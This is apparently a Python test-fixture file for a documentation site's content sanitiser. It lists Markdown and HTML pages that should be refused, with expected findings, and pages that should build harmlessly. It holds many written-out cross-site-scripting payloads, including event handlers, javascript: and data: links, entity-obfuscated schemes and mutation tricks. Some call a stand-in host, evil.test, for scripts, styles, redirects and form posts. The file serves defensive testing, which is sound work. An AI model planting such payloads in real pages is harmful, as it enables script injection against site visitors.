"""What a stranger may try to bring into a page: each ends in a canary, `ran(…)`, or asks a host of its own.

A page is refused at the place in `REFUSED`, or stands in `HARMLESS`, where it builds and nothing comes of it.
Places count from the page's own first line; a page without front matter gets none.
"""

from __future__ import annotations

# ruff: noqa: E501 - a page stands on one line, as it would be pasted

# name → (the page, `line:column: rule` of every finding)
REFUSED: dict[str, tuple[str, list[str]]] = {
    "script": ("# P\n\n<script>ran('script')</script>\n", ["3:1: html-element"]),
    "script with src": ('# P\n\n<script src="https://evil.test/x.js"></script>\n', ["3:1: html-element"]),
    "script in capitals": ("# P\n\n<ScRiPt>ran('caps')</sCrIpT>\n", ["3:1: html-element"]),
    "script never closed": ("# P\n\n<script>ran('open')\n", ["3:1: html-element"]),
    "script as a module": ('# P\n\n<script type="module">ran("m")</script>\n', ["3:1: html-element"]),
    "script of the theme's form": ("# P\n\n<script>var tabs=ran('form')</script>\n", ["3:1: html-element"]),
    "svg with onload": ("# P\n\n<svg onload=\"ran('svg')\"></svg>\n", ["3:6: html-attribute"]),
    "svg with a script": ("# P\n\n<svg><script>ran('svg')</script></svg>\n", ["3:6: html-element"]),
    "svg that moves": (
        '# P\n\n<svg><a><animate attributeName="href" to="javascript:ran(1)"/></a></svg>\n',
        ["3:9: html-element"],
    ),
    "svg with a foreign object": (
        '# P\n\n<svg><foreignObject><iframe src="javascript:ran(1)"></iframe></foreignObject></svg>\n',
        ["3:6: html-element", "3:21: html-element"],
    ),
    "svg with use": ('# P\n\n<svg><use href="https://evil.test/x.svg#a"/></svg>\n', ["3:6: html-element"]),
    "svg with an image": ('# P\n\n<svg><image href="https://evil.test/x.png"/></svg>\n', ["3:6: html-element"]),
    "details with ontoggle": (
        "# P\n\n<details open ontoggle=\"ran('toggle')\"><summary>More</summary></details>\n",
        ["3:15: html-attribute"],
    ),
    "focus": ("# P\n\n<input autofocus onfocus=\"ran('focus')\">\n", ["3:1: html-element"]),
    "focus on a box": (
        '# P\n\n<div tabindex="1" autofocus onfocus="ran(\'box\')">x</div>\n',
        ["3:6: html-attribute", "3:19: html-attribute", "3:29: html-attribute"],
    ),
    "frame with a script": ('# P\n\n<iframe src="javascript:parent.ran(1)"></iframe>\n', ["3:1: html-element"]),
    "frame with srcdoc": (
        '# P\n\n<iframe srcdoc="&lt;script&gt;parent.ran(1)&lt;/script&gt;"></iframe>\n',
        ["3:1: html-element"],
    ),
    "object": ('# P\n\n<object data="javascript:ran(1)"></object>\n', ["3:1: html-element"]),
    "embed": ('# P\n\n<embed src="javascript:ran(1)">\n', ["3:1: html-element"]),
    "style sheet of another host": (
        "# P\n\n<style>@import url(http://evil.test/x.css);</style>\n",
        ["3:1: html-element"],
    ),
    "link to a style sheet": ('# P\n\n<link rel="stylesheet" href="http://evil.test/x.css">\n', ["3:1: html-element"]),
    "base": ('# P\n\n<base href="https://evil.test/">\n', ["3:1: html-element"]),
    "refresh": ('# P\n\n<meta http-equiv="refresh" content="0;url=https://evil.test/">\n', ["3:1: html-element"]),
    "form that sends": (
        '# P\n\n<form action="https://evil.test/"><button>Go</button></form>\n',
        ["3:1: html-element", "3:35: html-element"],
    ),
    "button with an action": ('# P\n\n<button formaction="javascript:ran(1)">Go</button>\n', ["3:1: html-element"]),
    "math that links": (
        '# P\n\n<math><mi xlink:href="javascript:ran(1)">x</mi></math>\n',
        ["3:1: html-element", "3:7: html-element"],
    ),
    "video": ('# P\n\n<video src="https://evil.test/x.mp4" autoplay></video>\n', ["3:1: html-element"]),
    "video that fails": (
        '# P\n\n<video><source onerror="ran(1)"></video>\n',
        ["3:1: html-element", "3:8: html-element"],
    ),
    "marquee": ('# P\n\n<marquee onstart="ran(1)">x</marquee>\n', ["3:1: html-element"]),
    "second body": ('# P\n\n<body onload="ran(1)">\n', ["3:1: html-element"]),
    "portal of an unknown name": ("# P\n\n<x-canary onclick=\"ran('x')\">x</x-canary>\n", ["3:1: html-element"]),
    "template": ("# P\n\n<template><script>ran(1)</script></template>\n", ["3:1: html-element", "3:11: html-element"]),
    "noscript": (
        '# P\n\n<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>\n',
        ["3:1: html-element", "3:11: html-unbalanced", "3:43: html-attribute"],
    ),
    "math with a style": (
        '# P\n\n<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">\n',
        ["3:1: html-element", "3:7: html-element", "3:21: html-element", "3:29: html-element"],
    ),
    "svg with a title": (
        '# P\n\n<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">\n',
        ["3:10: html-element", "3:17: html-form", "3:43: html-attribute"],
    ),
    "title": (
        '# P\n\n<title><a title="</title><img src=x onerror=ran(1)>"></title>\n',
        ["3:1: html-element", "3:8: html-form", "3:37: html-attribute"],
    ),
    "textarea": (
        '# P\n\n<textarea><a title="</textarea><img src=x onerror=ran(1)>"></textarea>\n',
        ["3:1: html-element", "3:43: html-attribute"],
    ),
    "plain text to the end": ("# P\n\n<plaintext>\n\nrest\n", ["3:1: html-element"]),
    "comment that ends early": (
        "# P\n\n<!--><img src=x onerror=ran(1)>-->\n",
        ["3:1: html-form", "3:17: html-attribute"],
    ),
    "comment that ends with a bang": ("# P\n\n<!-- x --!><img src=x onerror=ran(1)> -->\n", ["3:23: html-attribute"]),
    "declaration": ("# P\n\n<!DOCTYPE x [<!ENTITY e 'x'>]>\n", ["3:1: html-form"]),
    "instruction": ("# P\n\n<?xml-stylesheet href='https://evil.test/x.css'?>\n", ["3:1: html-form"]),
    "quotation mark never closed": ('# P\n\n<img src="x` `<script>ran(1)</script>"` `>\n', ["3:15: html-element"]),
    "box never closed": ("# P\n\n<div>\n\nrest\n", ["3:1: html-unbalanced"]),
    "box closed once too often": ("# P\n\ntext</div></div>\n", ["3:5: html-unbalanced"]),
    "picture that fails": ("# P\n\nText <img src=x onerror=ran(1)> goes on.\n", ["3:17: html-attribute"]),
    "picture in a box": (
        "# P\n\n<div markdown>\n\nText <img src=x onerror=ran(1)>.\n\n</div>\n",
        ["5:17: html-attribute"],
    ),
    "attribute of a box": ('# P\n\n<div markdown onclick="ran(1)">\n\nText.\n\n</div>\n', ["3:15: html-attribute"]),
    "picture in a table": ("# P\n\n| a |\n|---|\n| <img src=x onerror=ran(1)> |\n", ["5:14: html-attribute"]),
    "picture in a note": ("# P\n\nText.[^n]\n\n[^n]: <img src=x onerror=ran(1)>\n", ["5:18: html-attribute"]),
    "picture in a heading": ("# P\n\n## <img src=x onerror=ran(1)> Heading\n", ["3:15: html-attribute"]),
    "picture in a title of a box": (
        '# P\n\n!!! note "<img src=x onerror=ran(1)>"\n    Text.\n',
        ["3:22: html-attribute"],
    ),
    "picture in a question": (
        '# P\n\n!!! quiz "Q?"\n    ??? right "<img src=x onerror=ran(1)>"\n        Yes.\n',
        ["4:27: html-attribute"],
    ),
    "picture in a tab": ('# P\n\n=== "<img src=x onerror=ran(1)>"\n    Text.\n', ["3:17: html-attribute"]),
    "picture in an abbreviation": (
        "# P\n\nText ABC.\n\n<b onclick=ran(1)>ABC</b>\n\n*[ABC]: <b>\n",
        ["5:4: html-attribute"],
    ),
    "link in HTML": ('# P\n\n<a href="javascript:ran(1)">x</a>\n', ["3:4: html-address"]),
    "link in HTML with entities": ('# P\n\n<a href="&#106;avascript&colon;ran(1)">x</a>\n', ["3:4: html-address"]),
    "link in HTML with a tab": ('# P\n\n<a href="java&Tab;script:ran(1)">x</a>\n', ["3:4: html-address"]),
    "picture of another host in HTML": ('# P\n\n<img src="//evil.test/x.png" alt="x">\n', ["3:6: html-address"]),
    "settings of the theme": (
        '# P\n\n<div id="__config">{"base": "https://evil.test/"}</div>\n',
        ["3:6: html-attribute"],
    ),
    "part of the theme": ('# P\n\n<div data-md-component="announce">x</div>\n', ["3:6: html-attribute"]),
    "class that fetches": ('# P\n\n<div class="mermaid">flowchart TD</div>\n', ["3:6: html-attribute"]),
    "style of an element": (
        '# P\n\n<p style="position:fixed;inset:0;background:url(https://evil.test/x)">x</p>\n',
        ["3:4: html-attribute"],
    ),
    "link": ("# P\n\n[x](javascript:ran(1))\n", ["3:5: html-address"]),
    "link in capitals": ("# P\n\n[x](JaVaScRiPt:ran(1))\n", ["3:5: html-address"]),
    "link with an entity": ("# P\n\n[x](&#106;avascript:ran(1))\n", ["3:5: html-address"]),
    "link with an entity in hex": ("# P\n\n[x](&#x6A;avascript:ran(1))\n", ["3:5: html-address"]),
    "link in angle brackets": ("# P\n\n[x](<javascript:ran(1)>)\n", ["3:6: html-address"]),
    "link to data": ("# P\n\n[x](data:text/html,<script>ran(1)</script>)\n", ["3:5: html-address"]),
    "link to a script of old": ("# P\n\n[x](vbscript:ran(1))\n", ["3:5: html-address"]),
    "link to a file of the reader": ("# P\n\n[x](file:///etc/passwd)\n", ["3:5: html-address"]),
    "link by reference": ("# P\n\n[x][r]\n\n[r]: javascript:ran(1)\n", ["5:6: html-address"]),
    "address in angle brackets": ("# P\n\n<javascript:ran(1)>\n", ["3:1: html-element"]),
    "picture of another host": ("# P\n\n![x](https://evil.test/x.png)\n", ["3:6: html-address"]),
    "picture without a scheme": ("# P\n\n![x](//evil.test/x.png)\n", ["3:6: html-address"]),
    "picture by reference": ("# P\n\n![x][r]\n\n[r]: https://evil.test/x.png\n", ["5:6: html-address"]),
    "picture from data": ("# P\n\n![x](data:image/svg+xml,<svg onload=ran(1)>)\n", ["3:6: html-address"]),
    "attribute list": ("# P\n\nText\n{: onclick=ran(1) }\n", ["4:4: html-attribute"]),
    "attribute list of a link": ("# P\n\n[x](index.md){: onmouseover=ran(1) }\n", ["3:17: html-attribute"]),
    "attribute list of a heading": ("# P\n\n## H { onclick=ran(1) }\n", ["3:8: html-attribute"]),
    "attribute list with a style": ("# P\n\n*x*{: style=position:fixed }\n", ["3:7: html-attribute"]),
    "attribute list with an address": ("# P\n\n[x](index.md){: href=javascript:ran(1) }\n", ["3:17: html-attribute"]),
    "attribute list with a name of the theme's": ("# P\n\n## H { #__config }\n", ["3:8: html-attribute"]),
    "reason of an estimate": (
        '# P\n\n```estimate id="e" title="E"\na "A" = 3 video/day  # given <img src=x onerror=ran(1)>\nshow a\n```\n',
        ["4:41: html-attribute"],
    ),
    "title in front matter": ("---\ntitle: <img src=x onerror=ran(1)>\n---\n\n# P\n", ["2:8: front-matter-html"]),
    "end of the title": ("---\ntitle: </title><script>ran(1)</script>\n---\n\n# P\n", ["2:8: front-matter-html"]),
    "description": ("---\ndescription: '\"><script>ran(1)</script>'\n---\n\n# P\n", ["2:15: front-matter-html"]),
    "title with an element": ("---\ntitle: Pages and <script>\n---\n\n# P\n", ["2:8: front-matter-html"]),
    "title that is never closed": ("---\ntitle: 'a <b'\n---\n\n# P\n", ["2:9: front-matter-html"]),
    "comment in a title": ("---\ntitle: 'a <!--'\n---\n\n# P\n", ["2:9: front-matter-html"]),
    "tag": ("---\ntags: ['<img src=x onerror=ran(1)>']\n---\n\n# P\n", ["2:9: front-matter-html"]),
    "template of the theme": (
        "---\ntemplate: redirect.html\nlocation: javascript:ran(1)\n---\n\n# P\n",
        ["2:1: front-matter-html"],
    ),
    "backslashes": ("# P\n\n\\<script>ran(1)\\</script> \\<img src=x onerror=ran(1)\\>\n", ["3:2: html-element"]),
}

# name → the page. Each builds; opened, clicked through and searched, nothing runs and nothing leaves the site.
HARMLESS = {
    "script in code": "# P\n\n`<script>ran(1)</script>` and\n\n```html\n<img src=x onerror=ran(1)>\n```\n",
    "script in a heading's code": "# `</title><script>ran(1)</script>`\n\nText.\n",
    "entities in a heading": "# &lt;/title&gt;&lt;script&gt;ran(1)&lt;/script&gt;\n\nText.\n",
    "quotation marks in a heading": '# P\n\n## `x" onfocus="ran(1)" autofocus tabindex="1`\n\n### Below\n\nText.\n',
    "quotation marks in a description": "---\ndescription: '0;url=https://evil.test/\" http-equiv=\"refresh'\n---\n\n# P\n",
    "quotation marks in a title": '---\ntitle: \'x" onmouseover="ran(1)" y="\'\n---\n\n# P\n',
    "entities in a title": "---\ntitle: '&lt;img src=x onerror=ran(1)&gt;'\n---\n\n# P\n",
    "word between signs in a title": "---\ntitle: 'Feeds & <friends>, 1 < 2'\n---\n\n# P\n",
    "quotation marks in a status": "---\nstatus: 'x\" onmouseover=\"ran(1)'\nsubtitle: 'x\" onclick=\"'\n---\n\n# P\n",
    "quotation marks in an author": "---\nauthor: 'x\" http-equiv=\"refresh'\n---\n\n# P\n",
    "formula that links": "# P\n\nHere $\\href{javascript:ran(1)}{x}$.\n",
    "formula with a picture": "# P\n\nHere $\\includegraphics{https://evil.test/x.png}$.\n",
    "formula with HTML": "# P\n\nHere $\\text{<img src=x onerror=ran(1)>}$.\n",
    "caption of a figure": "# P\n\n```mermaid\nflowchart TD\n  accTitle: Path \"x\" of a request\n  accDescr: From 'a' to b\n  a --> b\n```\n",
    "title of an estimate": '# P\n\n```estimate id="e" title="<img src=x onerror=ran(1)>"\na "<img src=x onerror=ran(1)>" = 3 video/day  # given\nshow a\n```\n',
    "title of code": '# P\n\n```{ .python title="<img src=x onerror=ran(1)>" }\nx = 1\n```\n',
    "title of a link": "# P\n\n[x](index.md '<img src=x onerror=ran(1)>\" onclick=\"ran(1)')\n",
    "text of a picture": '# P\n\n![" onerror=ran(1) <img src=x onerror=ran(1)>](assets/mark.svg)\n',
    "abbreviation": '# P\n\nText ABC.\n\n*[ABC]: "><img src=x onerror=ran(1)>\n',
    "mark of a stash": "# P\n\n\x02wzxhzdk:0\x03 klzzwxh:0001 &#2;wzxhzdk:0&#3;\n",
    "less than": "# P\n\nWhere a < b and b <3, or `a<b`.\n",
    "slash for a space": "# P\n\n<svg/onload=ran('slash')>\n",
    "comment never closed": "# P\n\n<!-- numbers: \n\nrest\n",
    "attribute list of code": "# P\n\n```{ .python onclick=ran(1) }\nx = 1\n```\n",
}
